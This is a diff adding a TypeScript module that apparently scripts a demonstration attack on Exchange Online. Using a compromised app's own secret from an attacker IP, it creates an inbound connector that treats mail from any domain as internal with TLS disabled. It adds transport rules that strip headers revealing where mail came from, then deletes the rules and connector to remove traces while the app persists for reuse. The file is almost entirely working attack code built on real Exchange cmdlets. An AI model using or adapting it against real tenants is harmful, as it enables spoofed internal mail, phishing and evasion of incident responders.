@@ -1,0 +1,49 @@
+import type { Body, DemoClient } from './demo-client.js';
+import type { Spoils, Step } from './play.js';
+import { SECOND_ATTACK } from './second-attack.js';
+
+/** Now: the app signs in with its own secret, makes its way for mail, hides it, and takes the traces away. */
+export function awakeningSteps(): readonly Step[] {
+  const { ip, strippedHeaders } = SECOND_ATTACK;
+  return [
+    {
+      words: `The app wakes: from ${ip} it makes an inbound connector that takes mail from anywhere as internal.`,
+      play: async (client, spoils) => {
+        spoils.connectorName = `Gateway inbound ${spoils.appId.slice(0, 4)}`;
+        await invoke(client, spoils, 'New-InboundConnector', {
+          Name: spoils.connectorName,
+          ConnectorType: 'OnPremises',
+          SenderDomains: ['smtp:*;1'],
+          SenderIPAddresses: [ip],
+          RequireTls: false,
+          CloudServicesMailEnabled: true,
+          TreatMessagesAsInternal: true,
+        });
+      },
+    },
+    {
+      words: `It makes ${strippedHeaders.length} transport rules, each of which strips one header that would tell where mail came from.`,
+      play: async (client, spoils) => {
+        for (const [index, header] of strippedHeaders.entries()) {
+          const name = `gw-${spoils.appId.slice(0, 4)}-${String(index + 1).padStart(2, '0')}`;
+          await invoke(client, spoils, 'New-TransportRule', { Name: name, Enabled: true, RemoveHeader: header });
+          spoils.ruleNames.push(name);
+        }
+      },
+    },
+    {
+      words: 'The mail is out. It removes the rules and the connector. The app stays, and can do it again.',
+      play: async (client, spoils) => {
+        for (const name of spoils.ruleNames)
+          await invoke(client, spoils, 'Remove-TransportRule', { Identity: name, Confirm: false });
+        await invoke(client, spoils, 'Remove-InboundConnector', { Identity: spoils.connectorName, Confirm: false });
+      },
+    },
+  ];
+}
+
+async function invoke(client: DemoClient, spoils: Spoils, cmdlet: string, parameters: Body): Promise<void> {
+  const scope = 'https://outlook.office365.com/.default';
+  const token = await client.asApp(spoils.appId, spoils.secret, scope, SECOND_ATTACK.ip);
+  await client.exchange(token, cmdlet, parameters);
+}
